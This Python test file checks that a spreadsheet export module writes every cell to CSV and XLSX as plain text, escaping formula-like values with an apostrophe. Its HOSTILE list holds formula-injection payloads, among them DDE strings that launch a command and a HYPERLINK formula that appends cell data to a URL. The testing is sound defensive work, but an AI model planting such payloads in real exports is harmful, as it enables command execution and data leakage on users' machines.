"""Does a spreadsheet get every text as it is, and evaluate none of them?"""

from __future__ import annotations

import csv
import io
import zipfile
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from graph import sheets
from graph.errors import Refused
from graph.sheets import as_csv, as_xlsx, harmless

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    '";=1+1;"',
    "0x1F",
    "1e5",
    "12:30",
    "http://example.org",
    "_x003D_1+1",
    "Payroll, Run",
    "Zoë 漢字 👩‍💻",
)
HEAD = ("name", "other")

cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30)
tables = st.lists(st.tuples(cells, cells), max_size=6)


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def evaluates(cell: str) -> bool:
    """Whether a spreadsheet may take a cell of CSV for a formula."""
    return cell.lstrip()[:1] in tuple("=+-@＝＋－＠") and bool(cell.strip())


@given(tables)
def test_no_cell_of_csv_is_a_formula_and_every_text_is_there(rows: list[tuple[str, str]]) -> None:
    head, *read = read_csv(as_csv(HEAD, rows))
    assert head == list(HEAD)
    for row, written in zip(rows, read, strict=True):
        for cell, found in zip(row, written, strict=True):
            assert found in (cell, f"'{cell}")
            assert not found.startswith(("\t", "\r"))
            assert not evaluates(found)


@pytest.mark.parametrize("cell", [each for each in HOSTILE if evaluates(each.lstrip("\ufeff"))])
def test_what_looks_like_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Payroll", "a=b", "'=1", "1-2"])
def test_what_is_none_is_left_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def kinds(data: bytes) -> set[str | None]:
    """The kinds of the cells of the sheet, and `f` where one holds a formula or a link."""
    sheet = ET.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    found = {cell.get("t") for cell in sheet.iter(f"{space}c")}
    return found | {"f" for name in ("f", "hyperlink") for _ in sheet.iter(f"{space}{name}")}


def test_each_cell_of_xlsx_is_a_text_as_it_was() -> None:
    data = as_xlsx("Gaps", HEAD, [(cell, cell) for cell in HOSTILE])
    assert kinds(data) == {"s"}
    head, *rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Gaps").to_python()
    assert head == list(HEAD)
    assert [[each.replace("\r", "") for each in row] for row in rows] == [
        [cell.replace("\r", "")] * 2 for cell in HOSTILE
    ]


@given(tables)
def test_no_cell_of_xlsx_is_ever_anything_but_a_text(rows: list[tuple[str, str]]) -> None:
    assert kinds(as_xlsx("Gaps", HEAD, rows)) == {"s"}


def test_a_text_that_is_too_long_for_a_cell_is_cut_and_not_lost() -> None:
    data = as_xlsx("Gaps", ("name",), [("a" * 40_000,)])
    ((_,), (cell,)) = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert cell == "a" * sheets.CELL


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "ROWS", 3)
    as_xlsx("Gaps", ("name",), [("a",), ("b",)])
    with pytest.raises(Refused, match="write CSV"):
        as_xlsx("Gaps", ("name",), [("a",), ("b",), ("c",)])
